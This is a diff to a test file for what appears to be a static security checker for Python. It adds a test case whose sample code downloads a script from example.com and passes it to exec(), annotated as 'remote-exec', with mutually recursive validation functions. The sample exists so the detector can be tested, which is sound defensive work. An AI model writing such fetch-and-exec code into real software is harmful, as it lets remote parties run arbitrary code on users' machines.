@@ -165,6 +165,20 @@ describe('checks', () => {
       `;
     });
 
+    it('may hand on the answer of one another for ever', () => {
+      python`
+        import requests
+        def is_good(x):
+            return is_fine(x)
+        def is_fine(x):
+            return is_good(x)
+        text = requests.get("https://example.com/a.py").text
+        if is_good(text):
+            exec(text)
+                 ^^^^ remote-exec
+      `;
+    });
+
     it('do not count after the danger, or when nobody listens', () => {
       python`
         import hashlib
